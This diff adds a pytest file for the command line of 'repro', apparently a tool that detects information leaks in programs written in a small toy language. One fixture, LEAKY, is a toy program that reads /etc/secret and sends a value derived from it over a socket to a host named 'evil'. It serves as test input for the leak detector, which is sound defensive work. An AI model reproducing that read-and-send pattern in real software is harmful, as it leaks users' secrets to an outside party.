@@ -1,0 +1,79 @@
+"""Unit tests for the command-line interface."""
+
+import pytest
+
+from repro.cli import main
+
+LEAKY = """
+fn main() {
+  var fd = open("/etc/secret", "r");
+  var x = parse_int(read(fd, 8));
+  close(fd);
+  var y = 0;
+  if (x == 7) { y = 1; } else { y = 2; }
+  var s = socket();
+  connect(s, "evil", 80);
+  send(s, y);
+}
+"""
+
+CLEAN = """
+fn main() {
+  print("hello cli");
+}
+"""
+
+
+@pytest.fixture
+def leaky_program(tmp_path):
+    path = tmp_path / "leaky.mc"
+    path.write_text(LEAKY)
+    return str(path)
+
+
+@pytest.fixture
+def clean_program(tmp_path):
+    path = tmp_path / "clean.mc"
+    path.write_text(CLEAN)
+    return str(path)
+
+
+def test_run_command(clean_program, capsys):
+    code = main(["run", clean_program])
+    assert code == 0
+    assert "hello cli" in capsys.readouterr().out
+
+
+def test_leak_command_detects(leaky_program, capsys):
+    code = main(
+        [
+            "leak",
+            leaky_program,
+            "--secret-file",
+            "/etc/secret",
+            "--file",
+            "/etc/secret=7",
+            "--endpoint",
+            "evil:80=",
+        ]
+    )
+    assert code == 1  # causality detected
+    assert "CAUSALITY" in capsys.readouterr().out
+
+
+def test_leak_command_clean_exit(clean_program, capsys):
+    code = main(
+        ["leak", clean_program, "--secret-stdin", "--stdin", "ignored", "--sinks", "file"]
+    )
+    assert code == 0
+    assert "no causality" in capsys.readouterr().out
+
+
+def test_leak_requires_sources(clean_program):
+    with pytest.raises(SystemExit):
+        main(["leak", clean_program])
+
+
+def test_bad_file_spec_rejected(clean_program):
+    with pytest.raises(SystemExit):
+        main(["run", clean_program, "--file", "no-equals-sign"])
